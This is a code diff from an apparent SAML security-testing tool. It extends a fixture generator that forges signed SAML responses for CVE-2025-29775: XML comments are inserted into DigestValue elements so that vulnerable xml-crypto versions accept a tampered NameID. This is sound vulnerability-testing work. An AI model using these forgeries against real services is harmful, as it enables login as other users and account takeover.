@@ -311,15 +311,42 @@ pub(super) fn wrapped_signedinfo(fx: &Fixture) -> Result<String, EditError> {
     ))
 }
 
-/// CVE-2025-29775's form: the NameID is the attacker's and a comment at the start of
-/// DigestValue holds the tampered Assertion's digest. Canonicalization drops the comment, so the
-/// SignatureValue still verifies; a verifier that reads DigestValue's first child (xml-crypto
-/// before 6.0.1) compares against the comment and accepts.
+/// CVE-2025-29775's form, on a response signed as JumpCloud's Sign = both: the NameID is the
+/// attacker's, and a comment at the start of each DigestValue holds the digest of the tampered
+/// element (Assertion, then Response). Canonicalization drops comments, so both SignatureValues
+/// still verify; a verifier that reads DigestValue's first child (xml-crypto before 6.0.1)
+/// compares against the comments and accepts.
 pub(super) fn digest_comment(fx: &Fixture) -> Result<String, EditError> {
-    let w = Work::new(evil(&signed_assertion(fx)?, fx)?)?;
-    let dv = w.first_named(DS, "DigestValue")?;
+    let w = Work::new(evil(&signed_both(fx)?, fx)?)?;
+    let xml = comment_first_in_digest(&w, w.assertion()?, &evil_digest(fx)?)?;
+    // The Response's digest covers the tampered Assertion (its comment is not canonical
+    // content): computed over this document without the Response's own Signature.
+    let w = Work::new(xml)?;
+    let response_signature = w.doc.span(w.signature_of(w.response())?);
+    let unsigned_response = splice(&w.xml, response_signature, "");
+    let forged = Work::new(sign(
+        &unsigned_response,
+        &[&fx.spec.response_id],
+        &fx.attacker,
+        &fx.options,
+    )?)?;
+    let forged_signature = forged.signature_of(forged.response())?;
+    let digest = forged
+        .doc
+        .text(forged.first_named_in(forged_signature, DS, "DigestValue")?);
+    comment_first_in_digest(&w, w.response(), &digest)
+}
+
+/// `<!--digest-->` as the first child of the DigestValue of `parent`'s Signature.
+fn comment_first_in_digest(
+    w: &Work,
+    parent: samlscope_core::xml::NodeId,
+    digest: &str,
+) -> Result<String, EditError> {
+    let signature = w.signature_of(parent)?;
+    let dv = w.first_named_in(signature, DS, "DigestValue")?;
     let at = w.doc.element(dv).map_or(0, |e| e.start_tag.end);
-    Ok(insert(&w.xml, at, &format!("<!--{}-->", evil_digest(fx)?)))
+    Ok(insert(&w.xml, at, &format!("<!--{digest}-->")))
 }
 
 pub(super) fn missing_id(fx: &Fixture) -> Result<String, EditError> {
